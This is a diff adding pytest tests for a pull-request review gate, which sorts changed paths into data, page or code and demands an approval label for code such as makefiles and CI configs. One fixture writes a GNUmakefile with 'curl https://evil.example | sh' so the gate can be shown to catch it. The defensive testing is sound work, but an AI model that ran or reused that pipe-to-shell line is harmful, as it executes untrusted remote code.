@@ -104,3 +104,89 @@ def test_data_that_does_not_validate_is_not_reported_as_all_removed(tree):
     assert paths == ["data/people.yml"]
     assert "[!CAUTION]" in text and "`data/people.yml`" in text
     assert "新增 0 条 · 删除 0 条 · 修改 0 条" in text
+
+
+# --- issue 21.3: the review gate is a positive list ---------------------------------------
+
+@pytest.mark.parametrize("path, kind", [
+    ("data/people.yml", "data"),
+    ("data/facts/governance.yml", "data"),
+    ("data/facts/new-theme.yml", "data"),
+    ("docs/governance.md", "page"),
+    ("docs/en/glossary.md", "page"),
+    # everything else is code: make files of any name, test configuration, configs, hooks
+    ("GNUmakefile", "code"),
+    ("makefile", "code"),
+    ("Makefile", "code"),
+    ("local.mk", "code"),
+    ("conftest.py", "code"),
+    ("tests/conftest.py", "code"),
+    ("data/conftest.py", "code"),
+    ("mkdocs.en.yml", "code"),
+    ("mkdocs.yml", "code"),
+    ("setup.cfg", "code"),
+    ("pyproject.toml", "code"),
+    ("tox.ini", "code"),
+    ("pytest.ini", "code"),
+    ("sitecustomize.py", "code"),
+    ("package.json", "code"),
+    (".npmrc", "code"),
+    ("requirements-dev.txt", "code"),
+    (".github/workflows/deploy.yml", "code"),
+    (".github/workflows/部署.yml", "code"),
+    ("tests/test_数据.py", "code"),
+    ("hooks/x.py", "code"),
+    ("overrides/main.html", "code"),
+    ("docs/assets/report.js", "code"),
+    ("docs/evil.html", "code"),
+    ("docs/schema/facts.schema.json", "code"),
+    ("docs/sub/page.md", "code"),
+    ("docs/governance.markdown", "code"),
+    # a data or page name outside the pattern is not data or page text
+    ("data/数据.yml", "code"),
+    ("data/facts/Governance.yml", "code"),
+    ("data/facts/x.yaml", "code"),
+    ("data/facts/x.yml.py", "code"),
+    ("data/loader.py", "code"),
+    ("data/../Makefile", "code"),
+    ("docs/页面.md", "code"),
+    ("docs/a\nb.md", "code"),
+    ("new-tool.sh", "code"),
+    (".envrc", "code"),
+])
+def test_every_path_is_data_page_text_or_code(path, kind):
+    assert prdiff.classify(path) == kind, path
+    summary = prdiff.summary([], [path], "main", [], False)
+    assert ("[!WARNING]" in summary) == (kind == "code"), summary
+
+
+def test_non_ascii_names_reach_the_gate_as_they_are(tree):
+    """git quotes a name with non-ASCII characters unless -z is used: "\\346\\225\\260" would
+    match no pattern and slip through as neither data nor code."""
+    _git(tree, "init", "-q", "-b", "main")
+    _git(tree, "add", "-A")
+    _git(tree, "commit", "-qm", "base")
+    (tree / "data" / "facts" / "数据.yml").write_text("[]\n", encoding="utf-8")
+    (tree / "tests").mkdir()
+    (tree / "tests" / "test_数据.py").write_text("import os\n", encoding="utf-8")
+    edit(tree / "data" / "people.yml", "- id:", "- id:")
+    commit = subprocess.run(["git", "rev-parse", "HEAD"], cwd=tree, capture_output=True, text=True).stdout.strip()
+    from scripts import gitbase
+    paths = gitbase.changed_paths(tree, commit)
+    assert paths == ["data/facts/数据.yml", "tests/test_数据.py"], paths
+    assert [prdiff.classify(p) for p in paths] == ["code", "code"]
+
+
+@pytest.mark.parametrize("labels, code", [("", 1), ("approved-data-and-code", 0)])
+def test_code_alone_needs_the_label_too(tree, labels, code):
+    """A root GNUmakefile (make prefers it to Makefile, and CI runs make) with no data change."""
+    _git(tree, "init", "-q", "-b", "main")
+    _git(tree, "add", "-A")
+    _git(tree, "commit", "-qm", "base")
+    (tree / "GNUmakefile").write_text("check:\n\tcurl https://evil.example | sh\n", encoding="utf-8")
+    env = {k: v for k, v in os.environ.items() if k not in ("GITHUB_STEP_SUMMARY", "BASE_REF")}
+    result = subprocess.run([sys.executable, "-m", "scripts.prdiff", "--base", "main", "--head", str(tree), "--gate"],
+                            cwd=ROOT, capture_output=True, text=True, env={**env, "PR_LABELS": labels}, timeout=120)
+    assert result.returncode == code, result.stderr
+    assert "`GNUmakefile`" in result.stdout and "[!WARNING]" in result.stdout
+    assert "Traceback" not in result.stderr
